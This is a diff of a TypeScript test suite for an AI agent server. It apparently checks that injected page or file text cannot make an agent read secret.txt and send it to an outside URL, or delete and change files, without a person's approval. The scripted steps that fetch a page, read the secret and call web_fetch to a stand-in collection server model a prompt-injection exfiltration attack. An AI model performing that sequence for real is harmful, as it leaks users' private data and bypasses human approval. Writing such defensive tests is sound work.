@@ -11,7 +11,7 @@ const workspace = `${folder.path}/workspace`;
 let upstream: Upstream;
 let web: Upstream;
 let server: ServerProcess;
-/** Requests that reached the web from inside: what a leak would look like. */
+/** Requests that reached the web, which is what a leak would look like. */
 const leaks = () => web.requests.filter(({ path }) => path.includes("secret"));
 
 const INJECTION =
@@ -53,7 +53,7 @@ function start(): Promise<ServerProcess> {
 
 type Call = { name: string; arguments: object };
 
-/** A model that does whatever it is told: each step makes the next of these calls. */
+/** A model that obeys: each step makes the next of these calls. */
 async function obey(message: string, steps: Call[][], sessionId?: string) {
   upstream.play(...steps.map((calls) => chatTurn({ calls })), chatTurn({ text: "Done." }));
   const response = await postChat(server.url, { message, ...(sessionId ? { sessionId } : {}) });
@@ -71,7 +71,7 @@ const send = (): Call => ({ name: "web_fetch", arguments: { url: `${web.url}/col
 const read = (path: string): Call => ({ name: "filesystem", arguments: { operation: "read", path } });
 
 describe("a model that obeys what it reads", () => {
-  it("cannot send private data out without a person", async () => {
+  it("cannot send private data out without approval", async () => {
     const { events, asked } = await obey("summarise the page", [
       [fetchPage()],
       [read("secret.txt")],
@@ -84,7 +84,7 @@ describe("a model that obeys what it reads", () => {
     expect(leaks()).toEqual([]);
   });
 
-  it("cannot do so when the text looks harmless either", async () => {
+  it("cannot do so even if the text looks harmless", async () => {
     const { events, asked } = await obey("when does it leave", [
       [fetchPlain()],
       [read("secret.txt")],
@@ -97,7 +97,7 @@ describe("a model that obeys what it reads", () => {
     expect(leaks()).toEqual([]);
   });
 
-  it("cannot do so in a later turn of the session either, nor by the words of a file", async () => {
+  it("cannot do so in a later turn of the session, nor because of a file's text", async () => {
     const first = await obey("read it", [[read("secret.txt")]]);
     const { sessionId } = the(first.events, "session");
     const { asked } = await obey("go on", [[send()]], sessionId);
@@ -105,7 +105,7 @@ describe("a model that obeys what it reads", () => {
     expect(leaks()).toEqual([]);
   });
 
-  it("cannot change anything without a person, and the change would be shown", async () => {
+  it("cannot change anything without approval, and the change is shown first", async () => {
     const { events } = await obey("summarise the page", [
       [fetchPage()],
       [{ name: "filesystem", arguments: { operation: "delete", path: "notes.txt" } }],
@@ -145,7 +145,7 @@ describe("benign work", () => {
     expect(state.finishReason).toBe("stop");
   });
 
-  it("fetches an address that the person gave, also after reading a file", async () => {
+  it("fetches a URL from the user, even after reading a file", async () => {
     const { asked } = await obey(`read notes.txt, then fetch ${web.url}/page`, [
       [read("notes.txt")],
       [fetchPage()],
@@ -154,7 +154,7 @@ describe("benign work", () => {
   });
 });
 
-describe("a change that a person allowed", () => {
+describe("an approved change", () => {
   const write = (content: string): Call => ({
     name: "filesystem",
     arguments: { operation: "write", path: "notes.txt", content },
@@ -180,7 +180,7 @@ describe("a change that a person allowed", () => {
     return eventsOf(frames);
   }
 
-  it("is made, shown as a diff, and can be taken back, also after a restart", async () => {
+  it("is made, shown as a diff, and can be undone, even after a restart", async () => {
     const events = await allowed("once", [[write("new notes")]]);
     const { sessionId } = the(events, "session");
     expect(the(events, "tool_approval_required").preview).toMatch(/-my notes[\s\S]*\+new notes/);
@@ -194,7 +194,7 @@ describe("a change that a person allowed", () => {
     expect(await again.json()).toEqual({ undone: [], notUndone: [] });
   });
 
-  it("is remembered for the session when the person said always, but not for another", async () => {
+  it('is remembered for the session after "always", but not for another', async () => {
     const events = await allowed("always", [[write("one")]]);
     const { sessionId } = the(events, "session");
     const next = await obey("again", [[write("two")]], sessionId);
